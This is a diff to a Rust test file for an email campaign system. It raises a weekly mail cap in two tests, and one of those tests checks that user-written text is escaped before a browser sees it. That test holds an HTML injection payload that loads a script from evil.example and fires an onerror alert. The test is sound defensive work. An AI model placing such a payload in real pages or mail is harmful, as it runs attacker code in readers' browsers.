@@ -12,7 +12,7 @@ use saffron_core::event::LocationDescribed;
 use saffron_proto::marketing::{CampaignItem, CampaignKind, Draft};
 use saffron_testkit::eventually;
 
-use crate::world::{NAME, POS, WEBSITE, World, ZONE, email, item, mail_to};
+use crate::world::{NAME, Options, POS, WEBSITE, World, ZONE, email, item, mail_to};
 
 /// Elements that neither load nor run anything by themselves; all but `img`, which is looked at.
 const ELEMENTS: [&str; 18] = [
@@ -112,7 +112,8 @@ async fn mails(world: &World, said: &str, draft: Draft, items: Vec<CampaignItem>
 
 #[tokio::test]
 async fn mails_load_pictures_of_items_and_lead_to_the_website_and_out() {
-    let world = World::new().await;
+    // Four mails to one guest: the words on a reward count, too.
+    let world = World::with(Options { weekly_cap: 4, ..Options::default() }).await;
     world.guests(1).await;
     let elsewhere =
         CampaignItem { image_url: "https://pictures.example/2.png?a=1&b=2".into(), ..item("Pie", 900, 800) };
@@ -131,7 +132,8 @@ async fn mails_load_pictures_of_items_and_lead_to_the_website_and_out() {
 
 #[tokio::test]
 async fn what_a_person_writes_is_read_as_text_by_a_browser_too() {
-    let world = World::new().await;
+    // Four mails to one guest: the words on a reward count, too.
+    let world = World::with(Options { weekly_cap: 4, ..Options::default() }).await;
     world.guests(1).await;
     let hostile =
         "</title></style><script src=//evil.example/x.js></script>\"'><img src=x onerror=alert(1)><!--";
